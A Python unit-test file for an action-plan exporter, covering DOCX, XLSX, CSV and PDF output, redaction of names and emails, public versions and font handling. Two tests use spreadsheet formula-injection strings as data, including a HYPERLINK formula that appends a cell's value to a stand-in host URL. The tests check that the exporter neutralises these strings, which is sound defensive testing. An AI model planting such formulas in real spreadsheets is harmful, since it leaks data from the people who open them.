"""The plan writers on their own: the layout, the tracker's lines, redaction, text safety, fonts.

The plans here are built from the seed read by the importer, without a
database; the round trip through a database is in tests/integration/workflows/queries/test_exports.py.
"""

from __future__ import annotations

import dataclasses
import io
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest

from documents import live
from documents.export_csv import write_plan_csv
from documents.export_docx import write_plan_docx
from documents.export_pdf import write_plan_pdf
from documents.export_xlsx import write_plan_xlsx
from documents.importer import read_plan
from documents.plan import ActionDraft, PlanDraft
from documents.plan_out import Check, Plan, PlanAction, Progress
from documents.redact import Named, Redactor, public_version
from domain.rag import Rag
from tests.pdf import pdf_pages, pdf_text
from tests.unit.plan_builders import SEED_PLAN, SEED_REFS

AS_OF = date(2014, 2, 1)


def plan_of(draft: PlanDraft, **changes: object) -> Plan:
    """The draft's plan as an export would give it, every action red and nothing recorded."""
    actions = []
    for a in draft.actions:
        text = draft.recommendations[a.recommendation].text if a.recommendation is not None else ""
        actions.append(
            PlanAction(a.ref, a.agency, text, a.columns, a.target_date, None, str(a.route), "open", Rag.RED, 0)
        )
    plan = Plan(
        draft.partnership_name, draft.partnership_short_name, draft.review_ref, draft.title, AS_OF, tuple(actions)
    )
    return dataclasses.replace(plan, **changes)  # type: ignore[arg-type]  # test plans change any field


def with_live(plan: Plan) -> Plan:
    """The seed's plan with a progress update on 3.11.1 and both checks on 3.2.3."""
    actions = []
    for a in plan.actions:
        if a.ref == "3.11.1":
            a = dataclasses.replace(a, progress=Progress("Progress update", AS_OF, "Lead WMP", "Drafting\nthe note"))
        if a.ref == "3.2.3":
            checks = (
                Check("Verified", "Health Commissioner", "commissioner", "NHS", AS_OF),
                Check("Assured", "Partnership Assurer", "partnership assurer", "BCSP", AS_OF),
            )
            a = dataclasses.replace(a, checks=checks, rag=Rag.BLUE)
        actions.append(a)
    return dataclasses.replace(plan, actions=tuple(actions))


def same_plan(first: PlanDraft, second: PlanDraft) -> None:
    """Same actions, in the same order, with the same text, agencies, recommendations, dates and routes."""

    def shape(draft: PlanDraft) -> list[tuple[object, ...]]:
        return [
            (
                a.ref,
                a.agency,
                a.columns,
                a.target_date,
                a.route,
                draft.recommendations[a.recommendation].text if a.recommendation is not None else None,
            )
            for a in draft.actions
        ]

    assert shape(second) == shape(first)
    assert (second.review_ref, second.title, second.partnership_name, second.partnership_short_name) == (
        first.review_ref,
        first.title,
        first.partnership_name,
        first.partnership_short_name,
    )


@pytest.mark.parametrize(("suffix", "writer"), [(".docx", write_plan_docx), (".xlsx", write_plan_xlsx)])
def test_the_seed_written_with_the_trackers_lines_reads_back_as_the_seed(
    tmp_path: Path, suffix: str, writer: object
) -> None:
    seed = read_plan(SEED_PLAN)
    path = tmp_path / f"plan{suffix}"
    path.write_bytes(writer(with_live(plan_of(seed))))  # type: ignore[operator]
    same_plan(seed, read_plan(path))


def test_the_trackers_lines_are_in_the_cells_the_board_reads(tmp_path: Path) -> None:
    document = docx.Document(io.BytesIO(write_plan_docx(with_live(plan_of(read_plan(SEED_PLAN))))))
    text = "\n".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert f"{live.MARK} Progress update 01/02/2014 (Lead WMP): Drafting the note" in text
    assert f"{live.MARK} Verified by Health Commissioner (commissioner, NHS), 01/02/2014" in text
    assert f"{live.MARK} Assured by Partnership Assurer (partnership assurer, BCSP), 01/02/2014" in text
    assert f"{live.MARK} Blue" in text and f"{live.MARK} Red" in text


def test_an_action_under_no_recommendation_after_one_under_a_recommendation_gets_a_table_of_its_own(
    tmp_path: Path,
) -> None:
    seed = read_plan(SEED_PLAN)
    plan = plan_of(seed)
    moved = [dataclasses.replace(a, recommendation="") if a.ref == "3.9.1" else a for a in plan.actions]
    plan = dataclasses.replace(plan, actions=tuple(moved))
    sections = plan.sections()
    assert [s.agency for s in sections].count(seed.actions[2].agency) == 2
    path = tmp_path / "plan.docx"
    path.write_bytes(write_plan_docx(plan))
    again = read_plan(path)
    [action] = [a for a in again.actions if a.ref == "3.9.1"]
    assert action.recommendation is None
    assert [a.ref for a in again.actions] == SEED_REFS


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path: Path) -> None:
    seed = read_plan(SEED_PLAN)
    first = seed.actions[0]
    first.columns.monitoring = '=HYPERLINK("http://x.invalid")'
    first.columns.success_measure = "form\x0cfeed"  # a control character XML cannot hold: left out
    path = tmp_path / "plan.xlsx"
    path.write_bytes(write_plan_xlsx(plan_of(seed)))
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert '=HYPERLINK("http://x.invalid")' in values and "formfeed" in values
    assert read_plan(path).actions[0].columns.monitoring == '=HYPERLINK("http://x.invalid")'


def test_the_plan_csv_quotes_formulas_and_reads_back_with_the_text_unchanged(tmp_path: Path) -> None:
    """Issue 14: a cell a spreadsheet would run goes out quoted; read back (with ``--map`` for the CSV's own
    state columns), every action has the text it had."""
    seed = read_plan(SEED_PLAN)
    first = seed.actions[0].columns
    first.monitoring = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
    first.action = "- brief officers"
    first.lead = "+44 121 496 0000"
    first.success_measure = "'=quoted already"
    path = tmp_path / "plan.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_plan_csv(plan_of(seed), out)
    written = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in written and "'- brief officers" in written and "''=quoted already" in written
    again = read_plan(path, mapping={"rag": "extra", "progress_update": "extra"}, review_ref=seed.review_ref)
    assert [_text(a) for a in again.actions] == [_text(a) for a in seed.actions]


def _text(action: ActionDraft) -> tuple[object, ...]:
    """What a plan CSV carries back of an action (its target date goes out as ISO, its date text as a column
    no synonym knows)."""
    c = action.columns
    plain = (c.action, c.lead, c.desired_outcome, c.monitoring, c.success_measure, c.outcome_progress)
    return (action.ref, action.agency, action.target_date, action.route, *plain, c.evidence_location, c.status_rag)


def test_redaction_replaces_names_and_emails_whatever_their_case_and_spacing() -> None:
    redact = Redactor(
        [
            Named("Jo Anne Smith", "jas@wmp.test", "lead officer", "West Midlands Police"),
            Named("Jo Anne", "ja@bcsp.test", "coordinator", "BCSP"),
        ]
    )
    text = "Ask JO  ANNE smith (jas@WMP.test) or Jo Anne; not Jo Annette."
    assert redact(text) == (
        "Ask [lead officer, West Midlands Police] ([lead officer, West Midlands Police]) or [coordinator, BCSP]; "
        "not Jo Annette."
    )


def test_the_public_version_leaves_out_evidence_progress_and_checkers_names_and_says_so() -> None:
    seed = read_plan(SEED_PLAN)
    seed.actions[0].columns.lead = "Jo Smith, Designated Nurse"
    plan = public_version(with_live(plan_of(seed)), [Named("Jo Smith", "jo@nhs.test", "lead officer", "NHS")])
    assert plan.public and "evidence_location" not in [name for _, name in plan.columns]
    assert plan.actions[0].columns.lead == "[lead officer, NHS], Designated Nurse"
    assert all(a.progress is None and not a.columns.evidence_location for a in plan.actions)
    [assured] = [a for a in plan.actions if a.ref == "3.2.3"]
    assert [c.text() for c in assured.checks] == [
        "Verified by the commissioner (NHS), 01/02/2014",
        "Assured by the partnership assurer (BCSP), 01/02/2014",
    ]
    assert "Public version. Removed: the names of people recorded in the tracker" in plan.preface()[1]


@pytest.mark.parametrize("core_font", [False, True], ids=["embedded font", "core font"])
def test_the_plan_pdf_has_pages_and_every_ref_whichever_font(tmp_path: Path, core_font: bool) -> None:
    seed = read_plan(SEED_PLAN)
    seed.actions[0].columns.lead = "Łucja Wróbel, Zoë’s team – “quoted”"  # outside Windows-1252: Ł
    path = tmp_path / "plan.pdf"
    path.write_bytes(write_plan_pdf(with_live(plan_of(seed)), core_font=core_font))
    assert pdf_pages(path) >= 2
    text = pdf_text(path)
    for ref in SEED_REFS:
        assert ref in text
    if core_font:
        assert "?ucja Wróbel, Zoë’s" in text and "team – “quoted”" in text  # Windows-1252 has all but the Ł
    else:
        assert "Łucja Wróbel" in text


def test_a_row_taller_than_a_page_runs_on_over_pages_with_every_word(tmp_path: Path) -> None:
    seed = read_plan(SEED_PLAN)
    seed.actions[0].columns.monitoring = " ".join(f"w{n}" for n in range(1500)) + " " + "x" * 300
    path = tmp_path / "plan.pdf"
    path.write_bytes(write_plan_pdf(plan_of(seed)))
    words = pdf_text(path).split()
    assert {f"w{n}" for n in range(1500)} <= set(words)
    assert "".join(w for w in words if set(w) == {"x"}) == "x" * 300  # a word wider than its column is cut
